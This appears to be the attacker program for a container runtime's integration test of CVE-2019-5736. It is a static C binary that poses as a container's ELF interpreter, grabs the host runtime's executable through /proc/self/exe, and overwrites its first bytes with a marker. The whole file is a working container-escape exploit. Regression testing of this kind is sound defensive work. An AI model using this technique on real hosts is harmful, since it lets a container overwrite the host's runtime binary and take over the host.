/* The attacker of tests/integration/test_cve_2019_5736.sh: a static,
 * libc-free x86_64 program that an image installs as its ELF interpreter
 * (/lib64/ld-linux-x86-64.so.2). The image's /bin/evil is the script
 * "#!/proc/self/exe": when the runtime execs it in the container, the kernel
 * runs the runtime's own binary (the exec helper's or the init's
 * /proc/self/exe), and loads that binary's interpreter from the container's
 * root: this program, in a process whose /proc/self/exe is the runtime.
 *
 *   stage 1 (argv[0] "/proc/self/exe", as the interpreter): open
 *     /proc/self/exe O_PATH on fd 3, then exec this file again as stage 2, so
 *     that the runtime's binary is no longer text-busy in this process.
 *   stage 2 (argv[0] "stage2"): reopen /proc/self/fd/3 for writing, retrying
 *     while the runtime on the host still runs it (ETXTBSY), and write a
 *     marker over its first bytes.
 * Each stage appends what happened to /cve-2019-5736.log in the container:
 *   "stage1 path=<fd or -errno>", "stage2 open=<fd or -errno>
 *   write=<n or -errno>", and a last line "done".
 * Build: cc -static -no-pie -nostdlib -ffreestanding -fno-stack-protector. */
#include <asm/unistd.h>
#include <linux/fcntl.h>
#include <linux/time.h>

#define ETXTBSY 26
#define EVIL_FD 3

__asm__(".text\n"
        ".global _start\n"
        "_start:\n"
        "  xor %rbp, %rbp\n"
        "  mov %rsp, %rdi\n"
        "  and $-16, %rsp\n"
        "  call evil_main\n"
        "  hlt\n");

static long sys3(long n, long a, long b, long c)
{
	long r;

	__asm__ volatile("syscall"
	                 : "=a"(r)
	                 : "a"(n), "D"(a), "S"(b), "d"(c)
	                 : "rcx", "r11", "memory");
	return r;
}

static int str_eq(const char *a, const char *b)
{
	while (*a != '\0' && *a == *b)
		a++, b++;
	return *a == *b;
}

/* Appends s to buf at *len (no initialised arrays: no memset to call). */
static void put_str(char *buf, long *len, const char *s)
{
	while (*s != '\0')
		buf[(*len)++] = *s++;
}

/* Appends "<what>=<v>" to buf at *len. */
static void put_num(char *buf, long *len, const char *what, long v)
{
	char digits[24];
	int n = 0;

	put_str(buf, len, what);
	buf[(*len)++] = '=';
	if (v < 0) {
		buf[(*len)++] = '-';
		v = -v;
	}
	do {
		digits[n++] = (char)('0' + v % 10);
		v /= 10;
	} while (v != 0);
	while (n > 0)
		buf[(*len)++] = digits[--n];
}

static void log_line(const char *line, long len)
{
	long fd = sys3(__NR_open, (long)"/cve-2019-5736.log", O_WRONLY | O_CREAT | O_APPEND, 0644);

	if (fd < 0)
		return;
	sys3(__NR_write, fd, (long)line, len);
	sys3(__NR_close, fd, 0, 0);
}

static void stage1(char **envp)
{
	char buf[64];
	long len = 0;
	long fd = sys3(__NR_open, (long)"/proc/self/exe", O_PATH, 0);

	if (fd >= 0 && fd != EVIL_FD) {
		sys3(__NR_dup2, fd, EVIL_FD, 0);
		sys3(__NR_close, fd, 0, 0);
		fd = EVIL_FD;
	}
	put_str(buf, &len, "stage1 ");
	put_num(buf, &len, "path", fd);
	buf[len++] = '\n';
	log_line(buf, len);
	if (fd < 0) {
		log_line("done\n", 5);
		return;
	}
	char *argv[] = {"stage2", 0};
	sys3(__NR_execve, (long)"/lib64/ld-linux-x86-64.so.2", (long)argv, (long)envp);
	log_line("stage1 exec failed\ndone\n", 24);
}

static void stage2(void)
{
	static const char marker[] = "PWNED by CVE-2019-5736\n";
	struct timespec pause = {0, 50 * 1000 * 1000};
	char buf[64];
	long len = 0, fd = -ETXTBSY, n = 0;

	/* ~20 s: the runtime on the host exits long before */
	for (int i = 0; i < 400 && fd == -ETXTBSY; i++) {
		fd = sys3(__NR_open, (long)"/proc/self/fd/3", O_WRONLY, 0);
		if (fd == -ETXTBSY)
			sys3(__NR_nanosleep, (long)&pause, 0, 0);
	}
	put_str(buf, &len, "stage2 ");
	put_num(buf, &len, "open", fd);
	if (fd >= 0) {
		n = sys3(__NR_write, fd, (long)marker, sizeof(marker) - 1);
		buf[len++] = ' ';
		put_num(buf, &len, "write", n);
	}
	buf[len++] = '\n';
	log_line(buf, len);
	log_line("done\n", 5);
}

__attribute__((used, noreturn)) void evil_main(long *sp)
{
	long argc = sp[0];
	char **argv = (char **)(sp + 1);
	char **envp = argv + argc + 1;

	if (argc > 0 && str_eq(argv[0], "stage2"))
		stage2();
	else
		stage1(envp);
	for (;;)
		sys3(__NR_exit_group, 0, 0, 0);
}
